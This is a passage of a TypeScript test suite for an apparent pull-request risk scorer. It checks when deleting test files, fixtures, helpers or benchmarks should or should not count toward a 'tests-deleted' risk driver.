    // The example's test alone, or beside another example's manifest: weighed.
    expect(ids([spec])).toContain('tests-deleted');
    expect(ids([makeFile('examples/using-esm/jest-typescript/package.json', { status: 'removed', additions: 0, deletions: 18 }), spec])).toContain('tests-deleted');
    // The examples folder's own manifest drops no example; a test folder's manifest is the test suite's.
    expect(ids([makeFile('examples/package.json', { status: 'removed', additions: 0, deletions: 12 }), makeFile('examples/cli.spec.js', { status: 'removed', additions: 0, deletions: 30 })])).toContain('tests-deleted');
    expect(ids([makeFile('test/examples/app/package.json', { status: 'removed', additions: 0, deletions: 8 }), makeFile('test/examples/app/app.test.js', { status: 'removed', additions: 0, deletions: 30 })])).toContain('tests-deleted');
  });

  it('does not weigh a test that quotes, word for word, a deprecation message the program stops giving; another message, or one given again, still weighs', () => {
    const ids = (files: ReturnType<typeof makeFile>[]) => risk(makeSnapshot({ authorAssociation: 'OWNER', files, checkRuns: green })).drivers.map((d) => d.id);
    const patchOf = (sign: '+' | '-', rows: string[]) => [sign === '-' ? `@@ -1,${rows.length} +0,0 @@` : `@@ -0,0 +1,${rows.length} @@`, ...rows.map((r) => `${sign}${r}`)].join('\n');
    // Modeled on a terminal-colour library's "Add named exports", which dropped `chalk.constructor()`'s error and test/constructor.js.
    const message = '`paint.constructor()` is deprecated. Use `new paint.Instance()` instead.';
    const sourceRows = ['\tpaint.template.constructor = () => {', `\t\tthrow new Error('${message}');`, '\t};'];
    const source = makeFile('source/index.js', { additions: 0, deletions: sourceRows.length, patch: patchOf('-', sourceRows) });
    const testRows = ["import test from 'ava';", "import paint from '../source/index.js';", '', "test('paint.constructor should throw an expected error', t => {", '\tconst expectedError = t.throws(() => {', '\t\tpaint.constructor();', '\t});', '', `\tt.is(expectedError.message, '${message}');`, '});'];
    const test = makeFile('test/constructor.js', { status: 'removed', additions: 0, deletions: testRows.length, patch: patchOf('-', testRows) });
    expect(ids([source, test])).not.toContain('tests-deleted');
    // The message given again elsewhere: the code it checked stays.
    expect(ids([source, makeFile('source/legacy.js', { additions: 1, deletions: 0, patch: patchOf('+', [`\tthrow new Error('${message}');`]) }), test])).toContain('tests-deleted');
    // Another deprecation message in the test, or the test alone: weighed.
    const other = testRows.map((r) => r.replace(message, '`paint.instance()` is deprecated. Use `new paint.Instance()` instead.'));
    expect(ids([source, makeFile('test/constructor.js', { status: 'removed', additions: 0, deletions: other.length, patch: patchOf('-', other) })])).toContain('tests-deleted');
    expect(ids([test])).toContain('tests-deleted');
  });

  it('does not weigh a Go test under the Go-version build constraint of a source file of its folder the PR deletes; other constraints, folders or none still weigh (calib17)', () => {
    const ids = (files: ReturnType<typeof makeFile>[]) => risk(makeSnapshot({ authorAssociation: 'OWNER', files, checkRuns: green })).drivers.map((d) => d.id);
    const goFile = (path: string, constraint: string | null, body: string) => {
      const rows = ['// Copyright (c) 2023 Example Corp.', '', ...(constraint === null ? [] : [`//go:build ${constraint}`, '']), 'package zlog', '', body];
      return makeFile(path, { status: 'removed', additions: 0, deletions: rows.length, patch: [`@@ -1,${rows.length} +0,0 @@`, ...rows.map((r) => `-${r}`)].join('\n') });
    };
    // zap's "Remove Go 1.18 build tags": the go1.18 variant of array.go and its example test go together.
    const variant = goFile('array_go118.go', 'go1.18', 'func Objects[T any](key string, values []T) Field { return Array(key, objects[T](values)) }');
    expect(ids([variant, goFile('example_go118_test.go', 'go1.18', 'func ExampleObjects() { logger.Info("x", zlog.Objects("a", nil)) }')])).not.toContain('tests-deleted');
    expect(ids([goFile('exp/handler/slog_pre_go121.go', '!go1.21', 'type Handler struct{}'), goFile('exp/handler/example_pre_go121_test.go', '!go1.21', 'func Example() {}')])).not.toContain('tests-deleted');
    // Another folder, another version, no constraint, or a platform tag shared by unrelated files: weighed.
    expect(ids([variant, goFile('internal/example_go118_test.go', 'go1.18', 'func Example() {}')])).toContain('tests-deleted');
    expect(ids([variant, goFile('example_go120_test.go', 'go1.20', 'func Example() {}')])).toContain('tests-deleted');
    expect(ids([variant, goFile('encoder_test.go', null, 'func TestEncoder(t *testing.T) {}')])).toContain('tests-deleted');
    expect(ids([goFile('sink_linux.go', 'linux', 'func open() {}'), goFile('auth_linux_test.go', 'linux', 'func TestAuth(t *testing.T) {}')])).toContain('tests-deleted');
  });

  it('does not weigh a Go test built only for Go versions below its module\'s minimum; a test some supported version builds, or with no go.mod read, still weighs (calib60)', () => {
    const goFile = (path: string, header: readonly string[], body: string) => {
      const rows = ['// Copyright 2022 The Example Authors', '', ...header, ...(header.length > 0 ? [''] : []), 'package prom', '', body];
      return makeFile(path, { status: 'removed', additions: 0, deletions: rows.length, patch: [`@@ -1,${rows.length} +0,0 @@`, ...rows.map((r) => `-${r}`)].join('\n') });
    };
    const goMod = (minimum: string) => `module example.com/prom\n\ngo ${minimum}\n\nrequire github.com/example/lib v1.2.0\n`;
    const ids = (files: ReturnType<typeof makeFile>[], baseFiles: { path: string; content: string }[] = [{ path: 'go.mod', content: goMod('1.23.0') }], contents: PrSnapshot['contents'] = []) =>
      risk(makeSnapshot({ authorAssociation: 'OWNER', files, checkRuns: green, baseFiles, contents })).drivers.map((d) => d.id);
    // client_golang's "Drop support for <go-1.22": tests of the Go 1.20 and 1.21 collectors, on a module already at go 1.23.
    const go120 = goFile('prometheus/collectors/go_collector_go120_test.go', ['//go:build go1.20 && !go1.21', '// +build go1.20,!go1.21'], 'func TestGoCollectorGo120(t *testing.T) { check(t, collector()) }');
    const go121 = goFile('prometheus/go_collector_metrics_go121_test.go', ['//go:build go1.21 && !go1.22'], 'func TestMetricsGo121(t *testing.T) { check(t, metrics()) }');
    const plusOnly = goFile('prometheus/go_collector_go116_test.go', ['// +build !go1.17'], 'func TestGoCollector116(t *testing.T) { check(t, collector()) }');
    const platform = goFile('prometheus/process_old_test.go', ['//go:build !go1.22 && linux'], 'func TestProcessOld(t *testing.T) { check(t, process()) }');
    expect(ids([go120, go121, plusOnly, platform])).not.toContain('tests-deleted');
    // The PR raises the minimum itself: go.mod's head counts.
    const raised = [{ path: 'go.mod', base: goMod('1.20'), head: goMod('1.22') }];
    expect(ids([makeFile('go.mod', { additions: 1, deletions: 1 }), go121], [{ path: 'go.mod', content: goMod('1.20') }], raised)).not.toContain('tests-deleted');
    // A version the module still supports builds it, the bound is a platform's or no bound at all, or no go.mod was read: weighed.
    expect(ids([go121], [{ path: 'go.mod', content: goMod('1.21') }])).toContain('tests-deleted');
    expect(ids([goFile('prometheus/new_api_test.go', ['//go:build go1.18'], 'func TestNewAPI(t *testing.T) { check(t, api()) }')])).toContain('tests-deleted');
    expect(ids([goFile('prometheus/process_either_test.go', ['//go:build !go1.22 || linux'], 'func TestProcess(t *testing.T) { check(t, process()) }')])).toContain('tests-deleted');
    expect(ids([goFile('prometheus/registry_test.go', [], 'func TestRegistry(t *testing.T) { check(t, registry()) }')])).toContain('tests-deleted');
    expect(ids([go121], [])).toContain('tests-deleted');
    // A nearer module's go.mod decides: a nested module still on go 1.21 builds it.
    expect(ids([go121], [{ path: 'go.mod', content: goMod('1.23.0') }, { path: 'prometheus/go.mod', content: goMod('1.21') }])).toContain('tests-deleted');
  });

  it('does not weigh a Go test helper file that is no _test.go file and declares no test nor check; one that checks, declares specs, or sits under testdata/ still weighs (calib60)', () => {
    const ids = (files: ReturnType<typeof makeFile>[]) => risk(makeSnapshot({ authorAssociation: 'OWNER', files, checkRuns: green })).drivers.map((d) => d.id);
    const goFile = (path: string, body: readonly string[]) => {
      const rows = ['package testutil', '', 'import "testing"', '', ...body];
      return makeFile(path, { status: 'removed', additions: 0, deletions: rows.length, patch: [`@@ -1,${rows.length} +0,0 @@`, ...rows.map((r) => `-${r}`)].join('\n') });
    };
    // viper's "remove testutil.Setenv as not needed from Go 1.17": a shim the tests called, dropped for t.Setenv.
    const shim = goFile('internal/testutil/env_go1_16.go', ['// Setenv sets an environment variable for the duration of the test.', 'func Setenv(t *testing.T, name, val string) {', '\told, ok := os.LookupEnv(name)', '\tos.Setenv(name, val)', '\tt.Cleanup(func() { restore(name, old, ok) })', '}']);
    expect(ids([shim])).not.toContain('tests-deleted');
    // A helper that reports failures, a Ginkgo spec file, an input under testdata/, a _test.go file: weighed.
    expect(ids([goFile('internal/testutil/equal.go', ['func Equal(t testing.TB, got, want string) {', '\tif got != want {', '\t\tt.Fatalf("got %q, want %q", got, want)', '\t}', '}'])])).toContain('tests-deleted');
    expect(ids([goFile('test/e2e/apps/deployment.go', ['var _ = Describe("Deployment", func() {', '\tIt("rolls out a new version", func() { rollOut() })', '})'])])).toContain('tests-deleted');
    expect(ids([goFile('internal/analysis/testdata/src/a/a.go', ['func f() { g() } // want "call of g"'])])).toContain('tests-deleted');
    expect(ids([goFile('internal/testutil/env_test.go', ['func helper(name string) { os.Setenv(name, "1") }'])])).toContain('tests-deleted');
    // A helper package deleted with its own test (a client library's "Remove inlined upstream code": `testutil/diff` for a dependency); the test alone still weighs.
    const diffTest = goFile('testutil/diff/diff_test.go', ['func TestUnified(t *testing.T) {', '\tif got := Unified("a", "b"); got != want {', '\t\tt.Errorf("got %q", got)', '\t}', '}']);
    expect(ids([goFile('testutil/diff/diff.go', ['// Unified returns the lines that differ, marked - and +.', 'func Unified(a, b string) string { return render(split(a), split(b)) }']), diffTest])).not.toContain('tests-deleted');
    expect(ids([diffTest])).toContain('tests-deleted');
  });

  it('does not weigh a test folder\'s type declaration file that is not named as a test; declaration-named tests and tsd type tests still weigh (calib17)', () => {
    const ids = (files: ReturnType<typeof makeFile>[]) => risk(makeSnapshot({ authorAssociation: 'OWNER', files, checkRuns: green })).drivers.map((d) => d.id);
    const removed = (path: string) => makeFile(path, { status: 'removed', additions: 0, deletions: 12 });
    expect(ids([removed('test/helpers/create-test-server.d.ts')])).not.toContain('tests-deleted');
    expect(ids([removed('tests/stubs/fakeredis.pyi')])).not.toContain('tests-deleted');
    // The same paths as program code are tests.
    expect(ids([removed('test/helpers/create-test-server.ts')])).toContain('tests-deleted');
    expect(ids([removed('tests/stubs/fakeredis.py')])).toContain('tests-deleted');
    expect(ids([removed('test/types/index.test.d.ts')])).toContain('tests-deleted');
    expect(ids([removed('test/types/index.test-d.ts')])).toContain('tests-deleted');
    expect(ids([removed('test/helpers/create-test-server.d.ts'), removed('test/helpers/server.test.ts')])).toContain('tests-deleted');
  });

  it('does not weigh an image or font a test reads; a visual or golden baseline and test code still weigh (calib61)', () => {
    const ids = (files: ReturnType<typeof makeFile>[]) => risk(makeSnapshot({ authorAssociation: 'OWNER', files, checkRuns: green })).drivers.map((d) => d.id);
    const removed = (path: string) => makeFile(path, { status: 'removed', additions: 0, deletions: 1, patch: null });
    expect(ids([removed('test/source/gathering/_staff/admins/backend/gamma.svg'), removed('tests/fixtures/images/cat.png'), removed('spec/fixtures/fonts/Inter.woff2')])).not.toContain('tests-deleted');
    for (const path of ['tests/login.spec.ts-snapshots/login-chromium.png', 'test/__image_snapshots__/button-test-js-renders-1-snap.png', 'lib/matplotlib/tests/baseline_images/test_axes/hist.png', 'test/goldens/card.png', 'tests/expected/resized.jpg', 'tests/Report.Approved.pdf']) {
      expect(ids([removed(path)]), path).toContain('tests-deleted');
    }
    expect(ids([removed('test/source/gathering/_staff/admins/backend/gamma.svg'), removed('test/test_gathering.rb')])).toContain('tests-deleted');
  });

  it('does not weigh a deleted fixture or helper whose uses the PR removes; one nothing names, and tests, still weigh (calib22)', () => {
    const ids = (files: ReturnType<typeof makeFile>[]) => risk(makeSnapshot({ authorAssociation: 'OWNER', files, checkRuns: green })).drivers.map((d) => d.id);
    const fixture = (path: string) => makeFile(path, { status: 'removed', additions: 0, deletions: 3, patch: ['@@ -1,3 +0,0 @@', "-import {spawnkit} from '../../index.js';", '-const [file, ...args] = process.argv.slice(2);', '-await spawnkit(file, args, {stdin: true});'].join('\n') });
    const suite = (removed: string[], added: string[]) =>
      makeFile('test/verbose/start.js', { additions: added.length, deletions: removed.length, patch: ['@@ -4,2 +4,2 @@', " test('prints the command', async t => {", ...removed.map((l) => `-${l}`), ...added.map((l) => `+${l}`)].join('\n') });
    // Modeled on a process library's test refactor: the suite stops spawning the fixture by name.
    const rewritten = suite(["\tconst {stderr} = await spawnkit('nested-stdin.js', ['noop.js']);"], ["\tconst {stderr} = await spawnkit('nested.js', ['noop.js'], {stdin: true});"]);
    expect(ids([fixture('test/fixtures/nested-stdin.js'), rewritten])).not.toContain('tests-deleted');
    // A helper imported without its extension, and one of a Python suite imported as a dotted module.
    expect(ids([fixture('test/helpers/fixtures-dir.js'), suite(["import {FIXTURES_DIR} from '../helpers/fixtures-dir';"], ["import {FIXTURES_DIR} from '../helpers/paths';"])])).not.toContain('tests-deleted');
    expect(ids([fixture('tests/helpers/fake_index.py'), suite(['from tests.helpers.fake_index import FakeIndex'], ['from tests.helpers.index_server import FakeIndex'])])).not.toContain('tests-deleted');
    // A family of fixtures whose names a test builds from a common start.
    expect(ids([fixture('test/fixtures/ipc-echo-twice-get.js'), suite(["\tconst fixture = filter ? 'ipc-echo-twice-filter' : 'ipc-echo-twice';"], [])])).not.toContain('tests-deleted');
    // Nothing the PR removes names it (a case a suite reads by a pattern), or it is a test itself, or its name is generic.
    expect(ids([fixture('test/fixtures/nested-stdin.js'), suite(["\tconst {stderr} = await spawnkit('noop.js');"], ["\tconst {stderr} = await spawnkit('noop.js', {verbose: true});"])])).toContain('tests-deleted');
    expect(ids([fixture('test/fixtures/nested-stdin.js')])).toContain('tests-deleted');
    expect(ids([fixture('test/fixtures/cases/redirect.test.js'), suite(["\tawait run('redirect.test.js');"], [])])).toContain('tests-deleted');
    expect(ids([fixture('test/helpers/index.js'), suite(["import {serve} from '../helpers/index.js';"], [])])).toContain('tests-deleted');
    // A test file outside a support folder is a test, named by a removed line or not.
    expect(ids([fixture('test/override-promise.js'), suite(["\tawait import('./override-promise.js');"], [])])).toContain('tests-deleted');
  });

  it('does not weigh a deleted test input outside a support folder whose test the PR rewrites without it; code, test cases and inputs nothing names still weigh', () => {
    // Modeled on a JSON processor's fix: the test script stops feeding jq `tests/utf8-truncate.jq` and builds its input in a loop.
    const ids = (files: ReturnType<typeof makeFile>[]) => risk(makeSnapshot({ authorAssociation: 'OWNER', files, checkRuns: green })).drivers.map((d) => d.id);
    const removed = (path: string) => makeFile(path, { status: 'removed', additions: 0, deletions: 3, patch: ['@@ -1,3 +0,0 @@', '-def fill: "aaaa";', '-def e: "日本語";', '-e == "日本語"'].join('\n') });
    const script = (path: string, name: string, status: 'modified' | 'removed' = 'modified') =>
      makeFile(path, { status, additions: status === 'removed' ? 0 : 4, deletions: 1, patch: ['@@ -3,1 +3,4 @@', `-if [ "$($JQ -nf $JQTESTDIR/${name})" != "true" ]; then exit 1; fi`, ...(status === 'removed' ? [] : ['+for l in 1 2 3 4; do', '+  $JQ -jn "[range($l)] | implode" > $d/input', '+  $JQ -Rse \'explode | unique == [48]\' $d/input > /dev/null || exit 1', '+done'])].join('\n') });
    expect(ids([removed('tests/utf8-truncate.jq'), script('tests/utf8test', 'utf8-truncate.jq')])).not.toContain('tests-deleted');
    expect(ids([removed('tests/data/input.yaml'), script('tests/run_cases.sh', 'input.yaml')])).not.toContain('tests-deleted');
    // The build file's list of test files drops it too.
    const makefile = makeFile('Makefile.am', { additions: 0, deletions: 1, patch: ['@@ -10,2 +10,1 @@', ' EXTRA_DIST = tests/jq.test \\', '-\ttests/utf8-truncate.jq'].join('\n') });
    expect(ids([removed('tests/utf8-truncate.jq'), script('tests/utf8test', 'utf8-truncate.jq'), makefile])).not.toContain('tests-deleted');
    expect(ids([removed('tests/utf8-truncate.jq'), makefile])).toContain('tests-deleted');
    expect(ids([removed('tests/utf8-truncate.jq'), script('tests/utf8test', 'old-utf8-truncate.jq')])).toContain('tests-deleted');
    // Named by nothing, by a file the PR deletes too or by no test, a file of test cases or code: weighed.
    expect(ids([removed('tests/utf8-truncate.jq'), script('tests/utf8test', 'other.jq')])).toContain('tests-deleted');
    expect(ids([removed('tests/utf8-truncate.jq'), script('src/main.sh', 'utf8-truncate.jq')])).toContain('tests-deleted');
    expect(ids([removed('tests/jq.test'), script('tests/jqtest', 'jq.test')])).toContain('tests-deleted');
    expect(ids([removed('tests/cases.sh'), script('tests/run', 'cases.sh')])).toContain('tests-deleted');
    expect(ids([removed('tests/man.expected'), script('tests/mantest', 'man.expected')])).toContain('tests-deleted');
  });

  it('does not weigh the files of a deleted fixture project whose folder the PR\'s removed lines name; folders nothing names, generic folders and tests still weigh', () => {
    const ids = (files: ReturnType<typeof makeFile>[]) => risk(makeSnapshot({ authorAssociation: 'OWNER', files, checkRuns: green })).drivers.map((d) => d.id);
    const removed = (path: string) => makeFile(path, { status: 'removed', additions: 0, deletions: 6, patch: ['@@ -1,2 +0,0 @@', "-module.exports = require('./lib');", '-exports.ok = true;'].join('\n') });
    const suite = (line: string) => makeFile('test/build.test.js', { additions: 1, deletions: 1, patch: ['@@ -4,2 +4,2 @@', " test('builds the app', async () => {", `-${line}`, "+  const dir = fixture('modern-app');"].join('\n') });
    const project = ['test/fixtures/legacy-app/index.js', 'test/fixtures/legacy-app/package.json', 'test/fixtures/legacy-app/lib/index.js'].map(removed);
    // A bundler's test suite stops building the fixture project it names by its folder.
    expect(ids([...project, suite("  const dir = path.join(__dirname, 'fixtures', 'legacy-app');")])).not.toContain('tests-deleted');
    expect(ids([...project, suite("  const dir = fixture('legacy-app');")])).not.toContain('tests-deleted');
    expect(ids([...project, suite("  const dir = resolve(__dirname, 'fixtures/legacy-app');")])).not.toContain('tests-deleted');
    // Nothing removed names the folder; a generic folder name; a file named as a test inside the project.
    expect(ids([...project, suite("  const dir = fixture('other-app');")])).toContain('tests-deleted');
    expect(ids([...project])).toContain('tests-deleted');
    expect(ids([removed('test/fixtures/examples/index.js'), suite("  const dir = fixture('examples');")])).toContain('tests-deleted');
    expect(ids([removed('test/fixtures/legacy-app/app.test.js'), suite("  const dir = fixture('legacy-app');")])).toContain('tests-deleted');
  });

  it('does not weigh a deleted benchmark harness or a test folder\'s prose document as deleted tests; tests beside them still weigh', () => {
    const ids = (files: ReturnType<typeof makeFile>[]) => risk(makeSnapshot({ authorAssociation: 'OWNER', files, checkRuns: green })).drivers.map((d) => d.id);
    const removed = (path: string) => makeFile(path, { status: 'removed', additions: 0, deletions: 20 });
    // A web framework dropping its benchmarks directory: a harness that measures speed, no check.
    expect(ids(['benchmarks/Makefile', 'benchmarks/README.md', 'benchmarks/middleware.js', 'benchmarks/run'].map(removed))).not.toContain('tests-deleted');
    expect(ids([removed('benches/router.rs'), removed('tests/README.md'), removed('spec/NOTES.rst')])).not.toContain('tests-deleted');
    // A test inside a benchmark folder, a benchmark named as a test, a test's expected output: tests.
    expect(ids([removed('benchmarks/test/setup.js')])).toContain('tests-deleted');
    expect(ids([removed('bench/parser.test.ts')])).toContain('tests-deleted');
    expect(ids([removed('tests/data/expected.txt')])).toContain('tests-deleted');
    expect(ids([removed('benchmarks/run'), removed('test/app.router.js')])).toContain('tests-deleted');
  });

  it('does not weigh a test renamed and rewritten (another case, separator or extension, at least half its lines); a small stand-in or another folder still weighs', () => {
    const ids = (files: ReturnType<typeof makeFile>[]) => risk(makeSnapshot({ authorAssociation: 'OWNER', files, checkRuns: green })).drivers.map((d) => d.id);
    const removed = (path: string, deletions: number) => makeFile(path, { status: 'removed', additions: 0, deletions });
    const added = (path: string, additions: number) => makeFile(path, { status: 'added', additions, deletions: 0 });
    // Modeled on a logger's type tests moved from .ts to .cts with the namespace renamed.
    expect(ids([removed('test/types/logger-import.test-d.ts', 22), added('test/types/logger-import.test-d.cts', 29)])).not.toContain('tests-deleted');
    expect(ids([removed('test/errorKey.test.js', 40), added('test/error-key.test.js', 38)])).not.toContain('tests-deleted');
    expect(ids([removed('test/app.test.js', 120), added('test/app.test.ts', 130)])).not.toContain('tests-deleted');
    expect(ids([removed('test/app.test.js', 120), added('test/app.test.ts', 3)])).toContain('tests-deleted');
    expect(ids([removed('test/app.test.js', 120), added('test/unit/app.test.ts', 130)])).toContain('tests-deleted');
    expect(ids([removed('test/app.test.js', 120), added('test/session.test.js', 130)])).toContain('tests-deleted');
  });

  it('does not weigh a test rewritten in another folder or runner whose cases all come back by title with at least half its lines; a stand-in, lost cases or a test without titles still weigh', () => {
    const ids = (files: ReturnType<typeof makeFile>[]) => risk(makeSnapshot({ authorAssociation: 'OWNER', files, checkRuns: green })).drivers.map((d) => d.id);
    const patchOf = (sign: '+' | '-', lines: string[]) => [`@@ ${sign === '-' ? `-1,${lines.length} +0,0` : `-0,0 +1,${lines.length}`} @@`, ...lines.map((l) => `${sign}${l}`)].join('\n');
    // Modeled on a parser's node:test suite moved from test/ to tests/unit/ and rewritten for vitest.
    const before = ["import { test } from 'node:test';", "import assert from 'node:assert';", "test('parses a number', () => {", "  assert.equal(parse('1'), 1);", '});', "test('parses a string', () => {", '  assert.equal(parse(\'"a"\'), \'a\');', '});', "test('rejects a trailing comma', () => {", "  assert.throws(() => parse('[1,]'));", '});'];
    const after = ["import { describe, it, expect } from 'vitest';", "describe('parse', () => {", "  it('parses a number', () => {", "    expect(parse('1')).toBe(1);", '  });', "  it('parses  a string', () => {", '    expect(parse(\'"a"\')).toBe(\'a\');', '  });', "  it('Rejects a trailing comma', () => {", "    expect(() => parse('[1,]')).toThrow();", '  });', '});'];
    const removed = (path: string, lines: string[]) => makeFile(path, { status: 'removed', additions: 0, deletions: lines.length, patch: patchOf('-', lines) });
    const added = (path: string, lines: string[]) => makeFile(path, { status: 'added', additions: lines.length, deletions: 0, patch: patchOf('+', lines) });
    expect(ids([removed('test/parse.test.js', before), added('tests/unit/parse.spec.ts', after)])).not.toContain('tests-deleted');
    // Python and Go names: def test_… and func Test… moved to another package's folder.
    const py = ['def test_parse_number():', '    assert parse("1") == 1', 'def test_parse_string():', '    assert parse(\'"a"\') == "a"'];
    expect(ids([removed('tests/test_parse.py', py), added('tests/unit/parser/test_numbers_and_strings.py', ['import pytest', ...py.map((l) => l.replace('assert parse', 'assert parser.parse'))])])).not.toContain('tests-deleted');
    // A stand-in that names the cases in few lines, a suite that keeps two of three cases, a test with no titles: weighed.
    expect(ids([removed('test/parse.test.js', before), added('tests/unit/parse.spec.ts', ["it('parses a number', () => {});", "it('parses a string', () => {});", "it('rejects a trailing comma', () => {});"])])).toContain('tests-deleted');
    expect(ids([removed('test/parse.test.js', before), added('tests/unit/parse.spec.ts', after.slice(0, 8).concat(['});']))])).toContain('tests-deleted');
    const untitled = ['const assert = require("assert");', 'assert.equal(parse("1"), 1);', 'assert.equal(parse("2"), 2);'];
    expect(ids([removed('test/parse.js', untitled), added('tests/unit/parse.spec.ts', after)])).toContain('tests-deleted');
  });

  it('does not weigh a test whose variant cases were folded into a parametrized test the PR adds elsewhere; without the parametrization, or for a short name, it still weighs', () => {
    const ids = (files: ReturnType<typeof makeFile>[]) => risk(makeSnapshot({ authorAssociation: 'OWNER', files, checkRuns: green })).drivers.map((d) => d.id);
    const patchOf = (sign: '+' | '-', lines: string[]) => [`@@ ${sign === '-' ? `-1,${lines.length} +0,0` : `-0,0 +1,${lines.length}`} @@`, ...lines.map((l) => `${sign}${l}`)].join('\n');
    const removed = (path: string, lines: string[]) => makeFile(path, { status: 'removed', additions: 0, deletions: lines.length, patch: patchOf('-', lines) });
    const added = (path: string, lines: string[]) => makeFile(path, { status: 'added', additions: lines.length, deletions: 0, patch: patchOf('+', lines) });
    // fastapi/typer 'Ensure that hidden commands are not shown when Rich markup is disabled' (#1812):
    // test_hidden_option and test_hidden_option_no_rich became one test parametrized over use_rich.
    const before = ['import typer.core', 'from tests.assets import corner_cases as mod', 'def test_hidden_option():', '    result = runner.invoke(mod.app, ["--help"])', '    assert "--name" not in result.output', 'def test_hidden_option_no_rich(monkeypatch):', '    monkeypatch.setattr(typer.core, "HAS_RICH", False)', '    result = runner.invoke(mod.app, ["--help"])', '    assert "--name" not in result.output', 'def test_coverage_call():', '    result = runner.invoke(mod.app)', '    assert result.exit_code == 0'];
    const after = (parametrize: string[]) => ['import typer.core', 'from tests.assets import hidden_option as mod_option', ...parametrize, 'def test_hidden_option(monkeypatch, use_rich):', '    monkeypatch.setattr(typer.core, "HAS_RICH", use_rich)', '    result = runner.invoke(mod_option.app, ["--help"])', '    assert "--name" not in result.output', 'def test_coverage_call():', '    result = runner.invoke(mod_option.app)', '    assert result.exit_code == 0'];
    const parametrize = ['@pytest.mark.parametrize("use_rich", [False, True])'];
    expect(ids([removed('tests/test_corner_cases.py', before), added('tests/test_hidden.py', after(parametrize))])).not.toContain('tests-deleted');
    // The same suite without the parametrization: the no-rich case is lost.
    expect(ids([removed('tests/test_corner_cases.py', before), added('tests/test_hidden.py', after(['# one case only']))])).toContain('tests-deleted');
    // A short added name (`test_x`) ties no variant to it.
    const short = before.map((l) => l.replace('test_hidden_option', 'test_x'));
    expect(ids([removed('tests/test_corner_cases.py', short), added('tests/test_hidden.py', after(parametrize).map((l) => l.replace('test_hidden_option', 'test_x')))])).toContain('tests-deleted');
  });

  it('does not weigh a JUnit test whose annotated methods come back by name in another test class (a known-failing test moved into the suite); another name, or the name without a test annotation, still weighs', () => {
    const ids = (files: ReturnType<typeof makeFile>[]) => risk(makeSnapshot({ authorAssociation: 'OWNER', files, checkRuns: green })).drivers.map((d) => d.id);
    const removed = (path: string, lines: string[]) => makeFile(path, { status: 'removed', additions: 0, deletions: lines.length, patch: [`@@ -1,${lines.length} +0,0 @@`, ...lines.map((l) => `-${l}`)].join('\n') });
    // A modified suite: the annotation and the method added among context lines.
    const modified = (path: string, lines: string[]) => makeFile(path, { status: 'modified', additions: lines.length, deletions: 0, patch: ['@@ -40,3 +40,' + String(lines.length + 3) + ' @@', ' class ParsingTest extends BaseTest {', ...lines.map((l) => `+${l}`), '     private static final int MODES = 4;', ' }'].join('\n') });
    // jackson-core's "uptake FastDoubleParser v1.0.1": the reproduction in failing/ moved into
    // NumberParsingTest under its name once fixed, its long literal now a shared constant.
    const known = ['package org.acme.failing;', '', 'class Parsing4694Test extends BaseTest', '{', '    // https://example.org/issues/4694', '    @Test', '    void issue4694() throws Exception {', '        final String str = "-11000.000000000000000000";', '        final BigDecimal expected = new BigDecimal(str);', '        for (int mode : ALL_MODES) {', '            try (Parser p = createParser(mode, str)) {', '                assertEquals(Token.VALUE_NUMBER_FLOAT, p.nextToken());', '                assertEquals(expected, p.getDecimalValue());', '            }', '        }', '    }', '}'];
    const moved = (name: string, annotation: string) => ['    // https://example.org/issues/4694', annotation, `    void ${name}() throws Exception {`, '        final BigDecimal expected = new BigDecimal(ISSUE_4694_VALUE);', '        for (int mode : ALL_MODES) {', '            try (Parser p = createParser(mode, String.format(" %s ", ISSUE_4694_VALUE))) {', '                assertEquals(Token.VALUE_NUMBER_FLOAT, p.nextToken());', '                assertEquals(expected, p.getDecimalValue());', '                assertFalse(p.isNaN());', '            }', '        }', '    }'];
    const dir = 'src/test/java/org/acme';
    expect(ids([removed(`${dir}/failing/Parsing4694Test.java`, known), modified(`${dir}/read/ParsingTest.java`, moved('issue4694', '    @Test'))])).not.toContain('tests-deleted');
    expect(ids([removed(`${dir}/failing/Parsing4694Test.java`, known), modified(`${dir}/read/ParsingTest.java`, moved('issue4694', '    @org.junit.jupiter.api.Test @Timeout(5)'))])).not.toContain('tests-deleted');
    // Another name: the case is not there.
    expect(ids([removed(`${dir}/failing/Parsing4694Test.java`, known), modified(`${dir}/read/ParsingTest.java`, moved('decimalParses', '    @Test'))])).toContain('tests-deleted');
    // The name on a method no test annotation marks (a helper): not a test.
    expect(ids([removed(`${dir}/failing/Parsing4694Test.java`, known), modified(`${dir}/read/ParsingTest.java`, moved('issue4694', '    // not run'))])).toContain('tests-deleted');
  });

  it('does not weigh a test rewritten under a longer name of the same subject in its folder, nor a file of a test folder\'s support/ folder; another subject, a short stand-in, a test in support/ or a helpers/ file still weighs', () => {
    const ids = (files: ReturnType<typeof makeFile>[]) => risk(makeSnapshot({ authorAssociation: 'OWNER', files, checkRuns: green })).drivers.map((d) => d.id);
    const removed = (path: string, deletions = 40) => makeFile(path, { status: 'removed', additions: 0, deletions });
    const added = (path: string, additions: number) => makeFile(path, { status: 'added', additions, deletions: 0 });
    const dir = 'resolver/src/test/kotlin/org/acme/resolver';
    expect(ids([removed(`${dir}/RecordReaderTest.kt`, 180), added(`${dir}/RecordReaderRecordedAnswersTest.kt`, 400)])).not.toContain('tests-deleted');
    expect(ids([removed(`${dir}/RecordReaderTest.kt`, 180), added(`${dir}/RecordReaderRecordedAnswersTest.kt`, 20)])).toContain('tests-deleted');
    expect(ids([removed(`${dir}/RecordReaderTest.kt`, 180), added(`${dir}/ResolverCacheTest.kt`, 400)])).toContain('tests-deleted');
    expect(ids([removed(`${dir}/UtilsTest.kt`, 180), added(`${dir}/UtilsAndMoreTest.kt`, 400)])).toContain('tests-deleted');
    // Set-up that the runners never run as tests: RSpec's spec/support, Minitest's test/support.
    expect(ids([removed('middleware/spec/support/rack_compat_patches.rb', 24)])).not.toContain('tests-deleted');
    expect(ids([removed('test/support/fake_clock.rb', 30)])).not.toContain('tests-deleted');
    expect(ids([removed('spec/support/format_spec.rb', 24)])).toContain('tests-deleted');
    expect(ids([removed('test/support/parser.test.js', 30)])).toContain('tests-deleted');
    expect(ids([removed('test/helpers/start-server.js', 30)])).toContain('tests-deleted');
    expect(ids([removed('lib/support/retry.rb', 30)])).not.toContain('tests-deleted');
  });

  it("does not weigh a JVM test root's class that declares no test and checks nothing (square/moshi's copied Ksp.kt dropped); a test, a helper with assertions, a build script or a resource still weighs", () => {
    const ids = (files: ReturnType<typeof makeFile>[]) => risk(makeSnapshot({ authorAssociation: 'OWNER', files, checkRuns: green })).drivers.map((d) => d.id);
